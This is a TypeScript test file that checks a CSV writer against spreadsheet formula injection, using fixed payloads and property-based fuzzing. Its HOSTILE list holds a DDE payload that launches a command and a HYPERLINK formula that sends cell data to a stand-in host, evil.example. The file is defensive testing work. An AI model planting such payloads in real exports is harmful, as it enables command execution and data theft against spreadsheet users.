import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvLine } from './csv.ts'

/**
 * Cells as a spreadsheet has them that parts at `separator`: a quote counts where a cell begins with it, and a line ends at
 * a line feed or a carriage return that is in no quotes.
 */
function read(text: string, separator: string): readonly string[] {
  const cells: string[] = []
  let [cell, isQuoted, isFirst] = ['', false, true]
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? ''
    if (isFirst && sign === '"') [isQuoted, isFirst] = [true, false]
    else if (isQuoted && sign === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (isQuoted && sign === '"') isQuoted = false
    else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) {
      cells.push(cell)
      ;[cell, isFirst] = ['', true]
    } else {
      cell += sign
      isFirst = false
    }
  }
  return cells
}

/** The same of one that drops what cannot be seen, and quotes that it did not expect, before it looks at a cell. */
const isFormula = (cell: string) =>
  /^[\p{Cc}\p{Cf}\p{Z}"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u.test(cell) && !/^-?[0-9]+(\.[0-9]+)?$/.test(cell)
const SEPARATORS = [',', ';', '\t'] as const

const HOSTILE: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"look")',
  'a;=1+1',
  'a;\n=1+1',
  'a; =1+1',
  'a;"=1+1"',
  'a;""=1+1',
  '";=1+1;"',
  'a\t=1+1',
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\r=1+1',
  'first\n=1+1',
  'first\r@SUM(A1)',
  'first\u2028=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '"=1+1"',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫x',
  '−1+1',
  'a;＝1+1',
  'a;;=1',
  '-1;=1',
  '-1\n-1+1',
  '-.5+1',
]

describe.each(SEPARATORS)('read with %j between cells', (separator) => {
  test.each(HOSTILE)('no formula comes of %j, wherever it stands', (text) => {
    for (const cells of [[text], ['1', text, 'x'], [text, text], ['x;', text], ['x"', text]])
      expect(read(csvLine(cells), separator).filter(isFormula)).toEqual([])
  })

  test('no formula comes of any cells', () => {
    const sign = fc.constantFrom(...'=+-@＝－;,"\n\r\t \u00a0\u200b\'a1')
    const text = fc.array(sign, { maxLength: 12 }).map((signs) => signs.join(''))
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        expect(read(csvLine(cells), separator).filter(isFormula)).toEqual([])
      }),
      { numRuns: 3_000, seed: 31 },
    )
  })
})

test('what was written is read again, but for the apostrophes that were set', () => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { minLength: 1, maxLength: 4 }),
      (cells) => {
        const again = read(csvLine(cells), ',').slice(0, cells.length)
        expect(again.map((one) => one.replaceAll("'", ''))).toEqual(
          cells.map((one) => one.replaceAll("'", '')),
        )
      },
    ),
    { numRuns: 500, seed: 32 },
  )
})

test.each([
  '',
  '1',
  '-1',
  '-0.25',
  'a, b',
  'rep"ly',
  '2026-11-26T00:00:00Z',
  'rita (https://idp.example.com rita)',
  'a; b',
  "'=1",
  'x=1',
])('what is none is left as it is: %j', (text) => {
  expect(read(csvLine(['n', text]), ',')[1]).toBe(text)
})
